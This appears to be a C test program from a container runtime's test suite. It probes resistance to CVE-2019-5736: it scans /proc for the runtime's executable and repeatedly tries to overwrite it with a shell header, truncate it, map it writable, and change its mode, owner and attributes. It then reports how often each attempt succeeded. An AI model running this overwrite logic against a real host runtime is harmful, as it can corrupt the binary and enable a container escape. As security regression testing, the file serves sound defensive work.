/* overwrite STOP: looks for processes whose program is not a file of the container, and tries to change that program: to
 * write to it, to cut it off, to change its mode, owner or attributes (CVE-2019-5736).
 *
 * Runs until the file STOP is there, then prints how many programs it has seen, and how often it could change what. */
#include "process.h"
#include <dirent.h>
#include <sys/mman.h>
#include <sys/xattr.h>

static unsigned long seen, writes, modes, owners;

static void attack(int pid)
{
    char path[64], name[256], again[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, name, sizeof name - 1);
    if (length <= 0)
        return;
    name[length] = 0;
    if (!strstr(name, "memfd:") && !strstr(name, "berth"))
        return;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    seen++;
    /* A file that is executed cannot be opened for writing; one that was is opened again, and again. */
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };
    for (int attempt = 0; attempt < 200; attempt++) {
        int writable = open(again, flags[attempt % 4] | O_CLOEXEC);
        if (writable < 0)
            continue;
        if (pwrite(writable, "#!/bin/sh\n", 10, 0) > 0 || ftruncate(writable, 0) == 0)
            writes++;
        void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writable, 0);
        if (memory != MAP_FAILED)
            writes++;
        close(writable);
    }
    struct stat stat;
    fstat(fd, &stat);
    if (fchmod(fd, 0) == 0)
        modes++;
    if (fchown(fd, 4711, 4711) == 0)
        owners++;
    fsetxattr(fd, "user.attack", "1", 1, 0);
    close(fd);
}

int main(int count, char **arguments)
{
    if (count < 2)
        return 2;
    printf("ready\n");
    fflush(stdout);
    while (!exists(arguments[1])) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid > 0 && pid != getpid())
                attack(pid);
        }
        if (proc)
            closedir(proc);
    }
    printf("seen %lu writes %lu modes %lu owners %lu\n", seen, writes, modes, owners);
    return 0;
}
